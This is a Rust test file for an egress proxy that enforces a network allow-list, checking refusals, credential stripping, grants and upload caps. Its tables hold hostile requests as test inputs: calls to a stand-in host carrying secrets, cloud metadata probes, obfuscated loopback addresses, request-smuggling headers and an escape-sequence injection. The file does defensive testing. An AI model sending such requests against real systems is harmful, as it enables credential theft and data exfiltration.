//! The network policy over real sockets: what passes, what is refused and why, and what people are told.

#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test may panic")]

mod tunnels;
#[path = "../way_out/mod.rs"]
mod way_out;

use deckhand_executors::egress::{Grant, GrantVerdict, Phase, Rule, Verdict};
use http_body_util::BodyExt as _;
use hyper::{Request, Response, body::Incoming};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream, UnixStream},
    time::timeout,
};
use way_out::{PATIENCE, Run, client_hello, echo, read_all, read_until, upstream};

#[tokio::test]
async fn a_host_that_is_not_listed_is_refused_with_the_rule() {
    let mut run = Run::listing("packages.example", 443, "public");
    let table = [
        (
            "CONNECT evil.example:443",
            "evil.example:443",
            Rule::NotListed,
        ),
        (
            "CONNECT packages.example:22",
            "packages.example:22",
            Rule::Port,
        ),
        ("CONNECT 1.1.1.1:443", "1.1.1.1:443", Rule::AddressLiteral),
        (
            "CONNECT 169.254.169.254:80",
            "169.254.169.254:80",
            Rule::AddressLiteral,
        ),
        ("CONNECT [::1]:443", "[::1]:443", Rule::AddressLiteral),
        (
            "GET http://evil.example/x?secret=1",
            "evil.example",
            Rule::NotListed,
        ),
        (
            "GET http://169.254.169.254/latest/meta-data",
            "169.254.169.254",
            Rule::AddressLiteral,
        ),
        (
            "PUT http://packages.example/x",
            "packages.example",
            Rule::Method,
        ),
        (
            "POST http://packages.example/x",
            "packages.example",
            Rule::Method,
        ),
    ];
    for (start, host, rule) in table {
        let answer = run
            .ask(&format!(
                "{start} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n"
            ))
            .await;
        assert!(answer.starts_with("HTTP/1.1 403"), "{start}: {answer}");
        assert!(
            answer.contains(&format!("x-deckhand-egress: denied; rule={rule}")),
            "{start}: {answer}"
        );
        let record = run.record().await;
        assert_eq!((record.host.as_str(), record.rule), (host, rule), "{start}");
        assert!(!record.path.unwrap_or_default().contains("secret"));
    }
}

#[tokio::test]
async fn a_listed_name_that_leads_into_the_house_is_refused() {
    let run = Run::listing("localhost", 8443, "public");
    let answer = run
        .ask("CONNECT localhost:8443 HTTP/1.1\r\nhost: localhost:8443\r\nconnection: close\r\n\r\n")
        .await;
    assert!(
        answer.starts_with("HTTP/1.1 403") && answer.contains("rule=private-address"),
        "{answer}"
    );
}

#[tokio::test]
async fn a_plain_request_to_a_listed_host_carries_no_credentials_and_the_right_host() {
    let address = echo().await;
    let run = Run::listing("localhost", address.port(), "house");
    let answer = run
        .ask(&format!(
            "GET http://localhost:{}/p?api_key=mine&x=1&ACCESS%5Ftoken=mine HTTP/1.1\r\nhost: LOCALHOST\r\nauthorization: Bearer mine\r\n\
             cookie: mine\r\nx-forwarded-host: mine\r\nX-HTTP-Method-Override: mine\r\nx-original-url: /mine\r\n\
             connection: close\r\n\r\n",
            address.port()
        ))
        .await;
    assert!(
        answer.contains("GET /p?x=1\n")
            && answer.contains(&format!("host: localhost:{}\n", address.port())),
        "{answer}"
    );
    assert!(
        !answer.contains("mine") && !answer.contains("LOCALHOST"),
        "{answer}"
    );
}

#[tokio::test]
async fn records_that_nobody_takes_are_dropped_and_counted() {
    let run = Run::listing("packages.example", 443, "public");
    for _ in 0..20 {
        run.ask("CONNECT evil.example:443 HTTP/1.1\r\nconnection: close\r\n\r\n")
            .await;
    }
    assert_eq!(run.handle.dropped_records(), 4);
}

#[tokio::test]
async fn what_can_be_read_in_two_ways_reaches_nobody() {
    let mut run = Run::by(&json!([{"hosts": ["packages.example"], "ports": [80, 443]}]));
    let table = [
        (
            "GET http://packages.example/",
            "host: evil.example\r\n",
            Rule::HostMismatch,
        ),
        (
            "GET http://packages.example/",
            "host: packages.example\r\nhost: evil.example\r\n",
            Rule::HostMismatch,
        ),
        (
            "CONNECT packages.example:443",
            "host: evil.example:443\r\n",
            Rule::HostMismatch,
        ),
        ("GET https://packages.example/", "", Rule::Scheme),
        ("GET ftp://packages.example/", "", Rule::Scheme),
        ("GET packages.example:80", "", Rule::Scheme),
        (
            "GET http://packages.example/",
            "connection: upgrade\r\nupgrade: websocket\r\n",
            Rule::Upgrade,
        ),
        (
            "GET http://packages.example@evil.example/",
            "",
            Rule::Malformed,
        ),
        ("CONNECT packages.example", "", Rule::Malformed),
        ("CONNECT packages.example:80", "", Rule::Scheme),
        ("CONNECT packages.example:22", "", Rule::Port),
        ("GET http://packages.example:443/", "", Rule::Scheme),
        ("GET http://127.1/", "", Rule::AddressLiteral),
        ("GET http://0x7f000001/", "", Rule::AddressLiteral),
        ("GET http://2130706433/", "", Rule::AddressLiteral),
        (
            "GET http://[::ffff:169.254.169.254]/",
            "",
            Rule::AddressLiteral,
        ),
    ];
    for (start, headers, rule) in table {
        let answer = run
            .ask(&format!(
                "{start} HTTP/1.1\r\n{headers}connection: close\r\n\r\n"
            ))
            .await;
        assert!(
            answer.contains(&format!("rule={rule}")),
            "{start}: {answer}"
        );
        let record = run.record().await;
        assert_eq!(
            (record.verdict, record.rule),
            (Verdict::Denied, rule),
            "{start}"
        );
    }
}

#[tokio::test]
async fn what_only_reads_says_nothing_in_a_body_and_a_name_has_one_dot_at_its_end() {
    let run = Run::by(&json!([{"hosts": ["packages.example"], "ports": [80]}]));
    for request in [
        "GET http://packages.example/ HTTP/1.1\r\ncontent-length: 6",
        "HEAD http://packages.example/ HTTP/1.1\r\ntransfer-encoding: chunked",
        "GET http://packages.example../ HTTP/1.1",
    ] {
        let answer = run
            .ask(&format!("{request}\r\nconnection: close\r\n\r\n"))
            .await;
        assert!(
            answer.contains(&format!("rule={}", Rule::Malformed)),
            "{request}: {answer}"
        );
    }
}

#[tokio::test]
async fn a_body_of_two_lengths_has_one_behind_the_proxy() {
    let port = echo().await.port();
    let run = Run::by(
        &json!([{"hosts": ["localhost"], "ports": [port], "methods": ["POST"], "addresses": "house"}]),
    );
    let start = format!("POST http://localhost:{port}/x HTTP/1.1\r\nconnection: close\r\n");
    for lengths in [
        "content-length: 3\r\ntransfer-encoding: chunked\r\n",
        "transfer-encoding: chunked\r\ncontent-length: 3\r\n",
    ] {
        let answer = run
            .ask(&format!("{start}{lengths}\r\n5\r\nhello\r\n0\r\n\r\n"))
            .await;
        assert!(answer.contains("body: hello\n"), "{answer}");
        assert!(!answer.contains("content-length: 3"), "{answer}");
    }
    for lengths in [
        "content-length: 3\r\ncontent-length: 5\r\n",
        "transfer-encoding: chunked, identity\r\n",
        "content-length: +3\r\n",
    ] {
        let answer = run.ask(&format!("{start}{lengths}\r\nhello")).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{lengths}: {answer}");
    }
}

#[tokio::test]
async fn a_redirect_is_passed_on_and_what_it_leads_to_is_decided_by_itself() {
    let address = upstream(|_| async {
        Response::builder()
            .status(302)
            .header("location", "http://evil.example/collect")
            .body(http_body_util::Empty::new().boxed())
            .unwrap()
    })
    .await;
    let port = address.port();
    let mut run =
        Run::by(&json!([{"hosts": ["localhost"], "ports": [port], "addresses": "house"}]));
    let answer = run
        .ask(&format!(
            "GET http://localhost:{port}/x HTTP/1.1\r\nconnection: close\r\n\r\n"
        ))
        .await;
    assert!(
        answer.starts_with("HTTP/1.1 302")
            && answer.contains("location: http://evil.example/collect"),
        "{answer}"
    );
    assert_eq!(run.record().await.host, format!("localhost:{port}"));
    let answer = run
        .ask("GET http://evil.example/collect HTTP/1.1\r\nconnection: close\r\n\r\n")
        .await;
    assert!(answer.contains("rule=not-listed"), "{answer}");
    // One question, one record: nobody followed the first answer.
    assert_eq!(run.record().await.rule, Rule::NotListed);
    assert!(run.records.try_recv().is_err());
}

#[tokio::test]
async fn a_refusal_says_who_was_told_and_what_to_do() {
    let mut run =
        Run::by(&json!([{"hosts": ["packages.example"], "ports": [80], "paths": ["/simple/"]}]));
    let answer = run
        .ask(
            "DECKHAND-CLIENT npm install\u{1b}[2J left-pad\r\nCONNECT evil.example:443 HTTP/1.1\r\nconnection: close\r\n\r\n",
        )
        .await;
    let first = answer.lines().next().unwrap();
    assert_eq!(first, "HTTP/1.1 403 Deckhand denied; rule=not-listed");
    assert!(
        answer.contains("evil.example is not on the list") && answer.contains("`network_access`"),
        "{answer}"
    );
    let notice = run.refused.recv().await.unwrap();
    assert_eq!(
        (
            notice.host.as_str(),
            notice.port,
            notice.method.as_str(),
            notice.rule
        ),
        ("evil.example", 443, "CONNECT", Rule::NotListed)
    );
    let client = Some("npm install [2J left-pad".to_owned());
    assert_eq!((notice.phase, &notice.client), (Phase::Work, &client));
    assert_eq!(run.record().await.client, client);

    run.ask("POST http://Packages.Example./simple/x?q=1 HTTP/1.1\r\nconnection: close\r\ncontent-length: 0\r\n\r\n")
        .await;
    let notice = run.refused.recv().await.unwrap();
    assert_eq!(
        (
            notice.host.as_str(),
            notice.port,
            notice.path.as_deref(),
            notice.rule
        ),
        ("packages.example", 80, Some("/simple/x"), Rule::Method)
    );

    // What is hostile is refused, and nobody is asked whether it may.
    for start in [
        "CONNECT 169.254.169.254:443",
        "GET http://a@packages.example/simple/",
    ] {
        let answer = run
            .ask(&format!("{start} HTTP/1.1\r\nconnection: close\r\n\r\n"))
            .await;
        assert!(answer.contains("trying again does not help"), "{answer}");
    }
    assert!(run.refused.try_recv().is_err());
}

#[tokio::test]
async fn a_persons_decision_holds_from_the_next_request_on_the_same_connection() {
    let port = echo().await.port();
    // The name may stand in the house; this port of it was not thought of.
    let mut run = Run::by(&json!([{"hosts": ["localhost"], "ports": [1], "addresses": "house"}]));
    let question = format!("GET http://localhost:{port}/x HTTP/1.1\r\n\r\n");
    let mut stream = run.connect().await;
    let before = run.handle.fingerprint();
    stream.write_all(question.as_bytes()).await.unwrap();
    read_until(&mut stream, "was decided.\n").await;
    assert_eq!(run.refused.recv().await.unwrap().rule, Rule::Port);

    let grant = |verdict| Grant {
        host: "localhost".to_owned(),
        port,
        verdict,
    };
    run.handle.grant(&grant(GrantVerdict::Allow));
    assert_ne!(run.handle.fingerprint(), before);
    stream.write_all(question.as_bytes()).await.unwrap();
    read_until(&mut stream, "body: ").await;
    run.record().await;
    assert_eq!(
        run.record().await.rule,
        Rule::Granted(format!("localhost:{port}"))
    );

    run.handle.grant(&grant(GrantVerdict::Never));
    stream.write_all(question.as_bytes()).await.unwrap();
    let answer = read_until(&mut stream, "go another way.\n").await;
    assert!(
        answer.contains(&format!("rule=never localhost:{port}")),
        "{answer}"
    );
    assert!(run.refused.try_recv().is_err(), "nobody is asked again");

    // Decisions widen the work; where checks run they change nothing.
    run.handle.grant(&grant(GrantVerdict::Allow));
    run.handle.set_phase(Phase::Proof);
    let answer = run
        .ask(&format!(
            "GET http://localhost:{port}/x HTTP/1.1\r\nconnection: close\r\n\r\n"
        ))
        .await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
}

#[tokio::test]
async fn thousands_of_small_requests_do_not_carry_a_repository_out() {
    let port = echo_nothing().await;
    let mut run = Run::by(
        &json!([{"hosts": ["localhost"], "ports": [port], "methods": ["POST"], "addresses": "house"}]),
    );
    let piece = "x".repeat(1024 * 1024);
    let question = format!(
        "POST http://localhost:{port}/x HTTP/1.1\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{piece}",
        piece.len()
    );
    let mut carried = 0;
    loop {
        // The proxy hangs up in the middle of the piece that is too much.
        let mut stream = run.connect().await;
        let _ = stream.write_all(question.as_bytes()).await;
        let _ = timeout(PATIENCE, stream.read_to_end(&mut Vec::new())).await;
        let record = run.record().await;
        if record.rule == Rule::UpLimit {
            break;
        }
        carried += record.bytes_up;
        assert!(carried <= 17 * 1024 * 1024, "{carried} bytes left");
    }
    assert!(carried >= 15 * 1024 * 1024, "{carried} bytes left");
    // Words in addresses count as well as words in bodies, and on every connection.
    let answer = run.ask(&format!("POST http://localhost:{port}/y HTTP/1.1\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")).await;
    assert!(answer.contains("rule=up-limit"), "{answer}");
}

/// A server that reads everything and says nothing.
async fn echo_nothing() -> u16 {
    let address = upstream(|request: Request<Incoming>| async {
        let _ = request.into_body().collect().await;
        Response::new(http_body_util::Empty::new().boxed())
    })
    .await;
    address.port()
}
